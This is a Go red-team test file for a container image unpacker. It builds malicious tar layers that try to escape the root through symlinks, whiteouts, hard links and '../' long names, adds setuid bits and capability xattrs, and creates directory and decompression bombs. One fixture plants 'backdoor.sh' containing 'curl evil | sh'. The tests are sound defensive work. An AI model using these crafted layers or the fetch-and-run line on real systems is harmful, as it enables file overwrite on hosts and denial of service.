package image

// Red-team tests for environment/image (branch redteam-image). Tests named
// TestRedteamHolds* are attacks that the unpacker resists; tests named
// TestRedteam* fail while the weakness they show is present.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/klauspost/compress/zstd"
)

// sentinel makes a directory outside any root, with a file and a
// subdirectory, and returns a function that reports any change to it.
func sentinel(t *testing.T) (string, func()) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "outside")
	if err := os.MkdirAll(filepath.Join(out, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(out, "victim"), []byte("intact"), 0o640); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(out, "sub", "deep"), []byte("intact"), 0o640); err != nil {
		t.Fatal(err)
	}
	snap := func() string {
		var b strings.Builder
		filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				b.WriteString("ERR " + err.Error() + "\n")
				return nil
			}
			st, _ := os.Lstat(p)
			data, _ := os.ReadFile(p)
			b.WriteString(p + " " + st.Mode().String() + " " + string(data) + "\n")
			return nil
		})
		return b.String()
	}
	before := snap()
	return out, func() {
		t.Helper()
		if after := snap(); after != before {
			t.Fatalf("outside changed:\nbefore:\n%s\nafter:\n%s", before, after)
		}
	}
}

func listCache(c *Cache) []string {
	es, _ := os.ReadDir(c.Dir)
	var n []string
	for _, e := range es {
		n = append(n, e.Name())
	}
	sort.Strings(n)
	return n
}

// rawTar builds a layer from headers written with an explicit format.
func rawTar(t testing.TB, format tar.Format, hdrs ...*tar.Header) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range hdrs {
		if format != tar.FormatUnknown {
			h.Format = format
		}
		body := ""
		if h.Typeflag == tar.TypeReg {
			body = strings.Repeat("x", int(h.Size))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if body != "" {
			tw.Write([]byte(body))
		}
	}
	tw.Close()
	return buf.Bytes()
}

// TestRedteamHoldsEscapes: multi-layer escape attempts through symbolic
// links, whiteouts, opaque directories, hard links and long names.
func TestRedteamHoldsEscapes(t *testing.T) {
	type tc struct {
		layers [][]ent
		ok     bool // whether the image may unpack (without touching outside)
	}
	cases := func(out string) map[string]tc {
		up := "../../../../../../../../../../../.." + out
		return map[string]tc{
			// A whiteout through a planted symlink.
			"whiteout-through-abs-symlink": {layers: [][]ent{{symlink("s", out)}, {file("s/.wh.victim", "")}}},
			"whiteout-through-rel-symlink": {layers: [][]ent{{symlink("s", up)}, {file("s/.wh.victim", "")}}},
			// An opaque whiteout in a planted symlinked directory.
			"opaque-through-abs-symlink": {layers: [][]ent{{symlink("s", out)}, {file("s/.wh..wh..opq", "")}}},
			"opaque-through-rel-symlink": {layers: [][]ent{{symlink("s", up)}, {file("s/.wh..wh..opq", "")}}},
			// Whiting out the symlink itself removes the link, not its target.
			"whiteout-the-symlink":          {layers: [][]ent{{symlink("s", out)}, {file(".wh.s", "")}}, ok: true},
			"whiteout-dir-holding-symlinks": {layers: [][]ent{{dir("d/"), symlink("d/a", out), symlink("d/r", up), symlink("d/f", out+"/victim")}, {file(".wh.d", "")}}, ok: true},
			"opaque-dir-holding-symlinks":   {layers: [][]ent{{dir("d/"), symlink("d/a", out), symlink("d/r", up)}, {file(".wh..wh..opq", "")}}, ok: true},
			// Replacing a planted symlink by a directory, a file or a link.
			"dir-over-symlink":      {layers: [][]ent{{symlink("s", out)}, {dir("s/"), file("s/victim", "pwned")}}, ok: true},
			"file-over-symlink":     {layers: [][]ent{{symlink("s", out+"/victim")}, {file("s", "pwned")}}, ok: true},
			"dir-entry-on-symlink/": {layers: [][]ent{{symlink("s", out)}, {ent{name: "s/sub/", typ: tar.TypeDir, mode: 0o777}}}},
			"chmod-dir-via-symlink": {layers: [][]ent{{symlink("s", out), ent{name: "s/", typ: tar.TypeDir, mode: 0o777}}}, ok: true},
			// Hard links through symlinks and to replaced files.
			"hardlink-via-abs-symlink-parent": {layers: [][]ent{{symlink("s", out), hardlink("h", "s/victim")}}},
			"hardlink-via-rel-symlink-parent": {layers: [][]ent{{symlink("s", up), hardlink("h", "s/victim")}}},
			"hardlink-to-dir":                 {layers: [][]ent{{dir("d/"), hardlink("h", "d")}}},
			"hardlink-then-write-through":     {layers: [][]ent{{file("a", "1"), hardlink("b", "a")}, {symlink("a", out+"/victim"), file("b", "2")}}, ok: true},
			"hardlink-proc-self-root":         {layers: [][]ent{{hardlink("h", "/proc/self/root"+out+"/victim")}}},
			// Two-step symlinks: a relative link inside a link.
			"symlink-chain": {layers: [][]ent{{dir("a/"), symlink("a/b", "../c"), symlink("c", up)}, {file("a/b/victim", "pwned")}}},
			// A symlink planted where a later layer's file's parent is.
			"parent-replaced-by-symlink": {layers: [][]ent{{dir("etc/"), file("etc/x", "1")}, {symlink("etc", out), file("etc/victim", "pwned")}}},
			"same-layer-parent-symlink":  {layers: [][]ent{{file("d/x", "1"), symlink("d", out), file("d/victim", "pwned")}}},
			// Trailing slashes and dots.
			"symlink-trailing-slash": {layers: [][]ent{{symlink("s/", out), file("s/victim", "pwned")}}},
			"dot-prefixed-symlink":   {layers: [][]ent{{symlink("./././s", out), file("./s/./victim", "pwned")}}},
			// A whiteout whose name is "..": removes a directory inside the root at most.
			"whiteout-dotdot-name": {layers: [][]ent{{dir("a/"), dir("a/b/"), file("keep", "k")}, {file("a/b/.wh...", "")}}, ok: true},
		}
	}
	for name := range cases("/x") {
		t.Run(name, func(t *testing.T) {
			out, check := sentinel(t)
			c := cases(out)[name]
			var layers []v1Layer
			for _, l := range c.layers {
				layers = append(layers, layerOf(t, l...))
			}
			cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
			r, err := unpack(t, writeLayout(t, imageOf(t, layers...)), cache)
			check()
			if err == nil && !c.ok {
				t.Errorf("unpacked; want a refusal (rootfs %s)", r.Dir)
			}
			if err != nil {
				t.Logf("refused: %v", short(err))
				if n := listCache(cache); len(n) != 0 {
					t.Errorf("cache kept %v", n)
				}
			}
		})
	}
}

// TestRedteamHoldsLongNames: PAX and GNU long names and link names that
// climb are refused; NUL in a PAX name is refused.
func TestRedteamHoldsLongNames(t *testing.T) {
	long := strings.Repeat("a/", 80)
	cases := map[string][]byte{
		"pax-long-dotdot": rawTar(t, tar.FormatPAX, &tar.Header{Name: long + strings.Repeat("../", 90) + "escaped", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1}),
		"gnu-long-dotdot": rawTar(t, tar.FormatGNU, &tar.Header{Name: long + strings.Repeat("../", 90) + "escaped", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1}),
		"gnu-longlink-hardlink": rawTar(t, tar.FormatGNU,
			&tar.Header{Name: "a", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1},
			&tar.Header{Name: "h", Typeflag: tar.TypeLink, Linkname: long + strings.Repeat("../", 90) + "etc/passwd"}),
		"pax-hardlink-abs": rawTar(t, tar.FormatPAX,
			&tar.Header{Name: "h", Typeflag: tar.TypeLink, Linkname: "/" + strings.Repeat("x", 200) + "/../../etc/passwd"}),
	}
	for name, b := range cases {
		t.Run(name, func(t *testing.T) {
			l := layerFromBytes(t, b)
			cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
			_, err := unpack(t, writeLayout(t, imageOf(t, l)), cache)
			if !errors.Is(err, ErrInvalid) {
				t.Fatalf("unpack: %v, want ErrInvalid", err)
			}
			t.Log(short(err))
			if n := listCache(cache); len(n) != 0 {
				t.Errorf("cache kept %v", n)
			}
		})
	}
}

// TestRedteamHoldsModes: setuid/setgid through PAX, a directory entry
// repeated with setgid, and xattrs in PAX records are never written.
func TestRedteamHoldsModes(t *testing.T) {
	b := rawTar(t, tar.FormatPAX,
		&tar.Header{Name: "d/", Typeflag: tar.TypeDir, Mode: 0o755},
		&tar.Header{Name: "d/", Typeflag: tar.TypeDir, Mode: 0o2777},
		&tar.Header{Name: "f", Typeflag: tar.TypeReg, Mode: 0o6755, Size: 1,
			PAXRecords: map[string]string{"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\xff\xff\xff\xff\x00\x00\x00\x00", "SCHILY.xattr.user.x": "y"}},
	)
	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
	r, err := unpack(t, writeLayout(t, imageOf(t, layerFromBytes(t, b))), cache)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"d", "f"} {
		st, _ := os.Lstat(filepath.Join(r.Dir, n))
		if st.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0 {
			t.Errorf("%s: mode %v", n, st.Mode())
		}
		t.Logf("%s: %v", n, st.Mode())
	}
}

// TestRedteamOpaqueRemovesOwnLayer: an opaque whiteout removes what
// its own layer wrote when the layer has no entry for a parent directory
// (it makes it implicitly). containerd, Docker and the OCI image spec keep
// it: the cordon rootfs then differs from the image that was reviewed.
func TestRedteamOpaqueRemovesOwnLayer(t *testing.T) {
	lower := layerOf(t, dir("d/"), file("d/old", "old"))
	upper := layerOf(t, file("d/.wh..wh..opq", ""), file("d/sub/new", "new")) // no "d/sub/" entry: tar writers may omit it
	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
	r, err := unpack(t, writeLayout(t, imageOf(t, lower, upper)), cache)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(r.Dir, "d/old")); err == nil {
		t.Error("d/old survived the opaque whiteout")
	}
	if _, err := os.Stat(filepath.Join(r.Dir, "d/sub/new")); err != nil {
		t.Errorf("the upper layer's own d/sub/new was removed by its opaque whiteout: %v", err)
	}
}

// TestRedteamWhiteoutSameLayer: a whiteout removes a file of its
// own layer when it comes after it; the OCI image spec says whiteouts
// apply only to lower layers (containerd keeps the file).
func TestRedteamWhiteoutSameLayer(t *testing.T) {
	upper := layerOf(t, file("x", "same layer"), file(".wh.x", ""))
	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
	r, err := unpack(t, writeLayout(t, imageOf(t, layerOf(t, file("keep", "k")), upper)), cache)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(r.Dir, "x")); err != nil {
		t.Errorf("x of the same layer was whited out: %v", err)
	}
}

// TestRedteamDirectoryBomb: one tar entry with a long name makes
// thousands of directories; the entry bound counts one. With the default
// limits, a layer of a few hundred KiB makes hundreds of millions of
// directories (inodes and 4 KiB blocks each), past the 16 GiB bound.
func TestRedteamDirectoryBomb(t *testing.T) {
	const depth = 5000 // 10 KB name; PAX allows names up to 1 MiB
	name := strings.Repeat("d/", depth) + "f"
	b := rawTar(t, tar.FormatPAX, &tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: 0})
	dirOf := t.TempDir()
	t.Cleanup(func() { exec.Command("rm", "-rf", dirOf).Run() })
	cache := &Cache{Dir: filepath.Join(dirOf, "cache"), Limits: Limits{MaxEntries: 10, MaxBytes: 1024}}
	start := time.Now()
	r, err := unpack(t, writeLayout(t, imageOf(t, layerFromBytes(t, b))), cache)
	t.Logf("unpack of 1 entry, %d-deep: %v in %v", depth, short(err), time.Since(start))
	if err != nil {
		return
	}
	t.Errorf("1 tar entry (MaxEntries 10) made %d directories", countDepth(t, r.Dir))
}

// TestRedteamDeepTreeDefeatsCleanup: a refused image whose layer
// first makes a directory chain deeper than the open-file limit leaves its
// temporary directory in the cache: os.RemoveAll keeps one descriptor per
// level and fails with EMFILE, and Unpack ignores that error.
func TestRedteamDeepTreeDefeatsCleanup(t *testing.T) {
	var lim syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim); err != nil {
		t.Fatal(err)
	}
	// Model a host with a 4096 open-file limit (on this machine the hard
	// limit is 20000; 524288 is common, and one 1 MiB PAX name is about
	// 500,000 levels, a chain of symbolic links more).
	saved := lim
	lim.Cur = 4096
	if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim); err != nil {
		t.Fatal(err)
	}
	defer syscall.Setrlimit(syscall.RLIMIT_NOFILE, &saved)
	depth := 5000
	b := rawTar(t, tar.FormatPAX,
		&tar.Header{Name: strings.Repeat("d/", depth) + "f", Typeflag: tar.TypeReg, Mode: 0o644, Size: 0},
		&tar.Header{Name: "fifo", Typeflag: tar.TypeFifo, Mode: 0o644}, // refused
	)
	dirOf := t.TempDir()
	t.Cleanup(func() { exec.Command("rm", "-rf", dirOf).Run() })
	cache := &Cache{Dir: filepath.Join(dirOf, "cache")}
	_, err := unpack(t, writeLayout(t, imageOf(t, layerFromBytes(t, b))), cache)
	t.Logf("unpack: %v", short(err))
	if err == nil {
		t.Fatal("unpacked a FIFO")
	}
	if n := listCache(cache); len(n) != 0 {
		t.Errorf("a refused image left %v in the cache", n)
	}
}

func short(err error) string {
	if err == nil {
		return "<nil>"
	}
	s := err.Error()
	if len(s) > 300 {
		s = s[:150] + " … " + s[len(s)-150:]
	}
	return s
}

// countDepth counts nested "d" directories below dir, by descriptor (the
// path is longer than PATH_MAX).
func countDepth(t *testing.T, dir string) int {
	rt, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for {
		next, err := rt.OpenRoot("d")
		rt.Close()
		if err != nil {
			return n
		}
		rt = next
		n++
	}
}

type v1Layer = v1.Layer

func layerFromBytes(t testing.TB, b []byte) v1.Layer {
	t.Helper()
	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil })
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// rawLayout writes an OCI layout by hand: each layer blob as given (its
// descriptor names its real digest), and a config naming diffIDs.
func rawLayout(t testing.TB, mediaType string, diffIDs []string, blobs ...[]byte) string {
	t.Helper()
	d := filepath.Join(t.TempDir(), "raw")
	put := func(b []byte) string {
		h := sha256.Sum256(b)
		x := hex.EncodeToString(h[:])
		p := filepath.Join(d, "blobs", "sha256", x)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
		return "sha256:" + x
	}
	desc := func(mt string, b []byte) map[string]any {
		return map[string]any{"mediaType": mt, "digest": put(b), "size": len(b)}
	}
	cfg, _ := json.Marshal(map[string]any{"architecture": "amd64", "os": "linux",
		"rootfs": map[string]any{"type": "layers", "diff_ids": diffIDs}, "config": map[string]any{}})
	var layers []any
	for _, b := range blobs {
		layers = append(layers, desc(mediaType, b))
	}
	man, _ := json.Marshal(map[string]any{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
		"config": desc("application/vnd.oci.image.config.v1+json", cfg), "layers": layers})
	idx, _ := json.Marshal(map[string]any{"schemaVersion": 2, "manifests": []any{desc("application/vnd.oci.image.manifest.v1+json", man)}})
	os.WriteFile(filepath.Join(d, "index.json"), idx, 0o644)
	os.WriteFile(filepath.Join(d, "oci-layout"), []byte(`{"imageLayoutVersion":"1.0.0"}`), 0o644)
	return d
}

// zeroBomb is a gzip stream of a tiny tar (one file) followed by n zero
// bytes after the end-of-archive marker.
func zeroBomb(t testing.TB, n int64) []byte {
	return bomb(t, "gzip", n, makeZeroBomb)
}

// bombs keeps each bomb this test binary built: the same bytes every time,
// a GiB compressed once rather than once per test that attacks with it
// (under the race detector one compression takes a minute and more).
var bombs = struct {
	sync.Mutex
	m map[string][]byte
}{m: map[string][]byte{}}

func bomb(t testing.TB, kind string, n int64, build func(testing.TB, int64) []byte) []byte {
	bombs.Lock()
	defer bombs.Unlock()
	k := fmt.Sprintf("%s %d", kind, n)
	if b, ok := bombs.m[k]; ok {
		return b
	}
	b := build(t, n)
	bombs.m[k] = b
	return b
}

func makeZeroBomb(t testing.TB, n int64) []byte {
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	zw.Write(tarOf(t, file("hello", "hi")))
	chunk := make([]byte, 1<<20)
	for left := n; left > 0; left -= int64(len(chunk)) {
		zw.Write(chunk[:min(int64(len(chunk)), left)])
	}
	zw.Close()
	return buf.Bytes()
}

// zstdBomb is zeroBomb with zstd: about 32,000 to 1.
func zstdBomb(t testing.TB, n int64) []byte {
	return bomb(t, "zstd", n, makeZstdBomb)
}

func makeZstdBomb(t testing.TB, n int64) []byte {
	var buf bytes.Buffer
	zw, _ := zstd.NewWriter(&buf, zstd.WithEncoderLevel(zstd.SpeedBestCompression))
	zw.Write(tarOf(t, file("hello", "hi")))
	chunk := make([]byte, 1<<20)
	for left := n; left > 0; left -= int64(len(chunk)) {
		zw.Write(chunk[:min(int64(len(chunk)), left)])
	}
	zw.Close()
	return buf.Bytes()
}

// TestRedteamTrailingBombIgnoresCancel: bytes after a layer's
// end-of-archive marker are read (and hashed) without bound and without
// looking at the context: a 1 MiB gzip layer (or a 32 KiB zstd one) makes
// Unpack read 1 GiB, and a cancelled context (Ctrl-C or SIGTERM in
// 'cordon image unpack') does not stop it. The byte limit (here 1 KiB)
// does not count them either. A 32 MiB zstd layer is a TiB of reading.
func TestRedteamTrailingBombIgnoresCancel(t *testing.T) {
	const n = 1 << 30
	for _, c := range []struct {
		name, mt string
		bomb     func(testing.TB, int64) []byte
	}{
		{"gzip", "application/vnd.oci.image.layer.v1.tar+gzip", zeroBomb},
		{"zstd", "application/vnd.oci.image.layer.v1.tar+zstd", zstdBomb},
	} {
		t.Run(c.name, func(t *testing.T) {
			blob := c.bomb(t, n)
			t.Logf("layer blob: %d bytes compressed, %d after the archive's end", len(blob), n)
			ref := rawLayout(t, c.mt, []string{"sha256:" + strings.Repeat("0", 64)}, blob)
			im, err := Open(ref)
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
			defer cancel()
			cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache"), Limits: Limits{MaxBytes: 1024}}
			start := time.Now()
			_, err = cache.Unpack(ctx, im)
			took := time.Since(start)
			t.Logf("unpack: %v after %v", short(err), took)
			if took > 500*time.Millisecond {
				t.Errorf("Unpack ran %v past a context cancelled after 100ms, reading %d trailing bytes", took, n)
			}
		})
	}
}

// TestRedteamOpaqueKeepsLowerGrandchildren: an opaque whiteout must
// hide everything the lower layers put below its directory. When the
// upper layer re-creates a subdirectory (an explicit entry, as docker
// build writes them), cordon keeps the lower layers' files inside that
// subdirectory: a file Docker, containerd and the OCI image spec show as
// gone (say etc/profile.d/backdoor.sh, under an opaque etc/) is in cordon's
// rootfs. What a reviewer inspects with docker is not what cordon runs.
func TestRedteamOpaqueKeepsLowerGrandchildren(t *testing.T) {
	lower := layerOf(t, dir("etc/"), dir("etc/profile.d/"), file("etc/profile.d/backdoor.sh", "curl evil | sh"), file("etc/hostname", "x"))
	upper := layerOf(t, dir("etc/"), file("etc/.wh..wh..opq", ""), dir("etc/profile.d/"), file("etc/profile.d/lang.sh", "export LANG=C"))
	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
	r, err := unpack(t, writeLayout(t, imageOf(t, lower, upper)), cache)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(r.Dir, "etc/hostname")); err == nil {
		t.Error("etc/hostname survived the opaque whiteout")
	}
	if _, err := os.Stat(filepath.Join(r.Dir, "etc/profile.d/backdoor.sh")); err == nil {
		t.Error("etc/profile.d/backdoor.sh of the lower layer survived the opaque whiteout on etc/")
	}
}

// TestRedteamDockerSaveCompressesEveryLayer: Open on a docker save
// tarball with uncompressed layers (what docker save writes) gzips every
// layer to build a manifest, only to read the config digest: as much CPU
// again as the unpack, before any check. Informational (performance, and
// unbounded work on an untrusted tarball before it is verified).
func TestRedteamDockerSaveCompressesEveryLayer(t *testing.T) {
	rnd := make([]byte, 48<<20)
	f, _ := os.Open("/dev/urandom")
	io.ReadFull(f, rnd)
	f.Close()
	var lb bytes.Buffer
	tw := tar.NewWriter(&lb)
	tw.WriteHeader(&tar.Header{Name: "blob", Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(rnd))})
	tw.Write(rnd)
	tw.Close()
	diff := sha256.Sum256(lb.Bytes())
	cfg, _ := json.Marshal(map[string]any{"architecture": "amd64", "os": "linux",
		"rootfs": map[string]any{"type": "layers", "diff_ids": []string{"sha256:" + hex.EncodeToString(diff[:])}}, "config": map[string]any{}})
	man, _ := json.Marshal([]any{map[string]any{"Config": "cfg.json", "RepoTags": []string{}, "Layers": []string{"l/layer.tar"}}})
	p := filepath.Join(t.TempDir(), "save.tar")
	out, _ := os.Create(p)
	ow := tar.NewWriter(out)
	for _, e := range []struct {
		n string
		b []byte
	}{{"manifest.json", man}, {"cfg.json", cfg}, {"l/layer.tar", lb.Bytes()}} {
		ow.WriteHeader(&tar.Header{Name: e.n, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(e.b))})
		ow.Write(e.b)
	}
	ow.Close()
	out.Close()
	start := time.Now()
	im, err := Open(p)
	if err != nil {
		t.Fatal(err)
	}
	opened := time.Since(start)
	start = time.Now()
	if _, err := (&Cache{Dir: filepath.Join(t.TempDir(), "c")}).Unpack(context.Background(), im); err != nil {
		t.Fatal(err)
	}
	t.Logf("48 MiB layer: Open %v, Unpack %v", opened, time.Since(start))
	if opened > time.Since(start)/2 {
		t.Errorf("Open took %v, more than half the unpack's time", opened)
	}
}

// TestRedteamCompressedDigestNotChecked: a layer blob whose bytes do not
// hash to the digest the manifest names (another gzip of the same tar) is
// accepted; only the diff id is checked. The rootfs is still exactly what
// the config names (CLAIMS row 102 holds), but the manifest digest that
// Rootfs.Manifest reports (and a receipt would record) names blobs that
// were not the ones read. Informational.
func TestRedteamCompressedDigestNotChecked(t *testing.T) {
	tr := tarOf(t, file("a", strings.Repeat("x", 1000)))
	d := writeLayout(t, imageOf(t, layerFromBytes(t, tr)))
	im, err := Open(d)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := im.img.Manifest()
	blob := filepath.Join(d, "blobs", "sha256", m.Layers[0].Digest.Hex)
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.NoCompression)
	zw.Write(tr)
	zw.Close()
	if err := os.WriteFile(blob, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	r, err := (&Cache{Dir: filepath.Join(t.TempDir(), "c")}).Unpack(context.Background(), im)
	if err != nil {
		t.Logf("refused: %v", err)
		return
	}
	t.Logf("accepted a layer blob that does not match manifest %s's layer digest %s", r.Manifest, m.Layers[0].Digest)
}

// TestRedteamAbsoluteSymlinkInsideImage: Debian-style absolute links
// (var/run -> /run) mean a path inside the image to Docker and containerd
// (resolved in the root, like chroot); os.Root refuses them as escapes,
// so an image whose later layer writes through one is refused.
// Compatibility, not safety: recorded for the report.
func TestRedteamAbsoluteSymlinkInsideImage(t *testing.T) {
	lower := layerOf(t, dir("run/"), dir("var/"), symlink("var/run", "/run"))
	upper := layerOf(t, file("var/run/app.pid", "1"))
	_, err := unpack(t, writeLayout(t, imageOf(t, lower, upper)), &Cache{Dir: filepath.Join(t.TempDir(), "c")})
	t.Logf("unpack: %v", err)
}
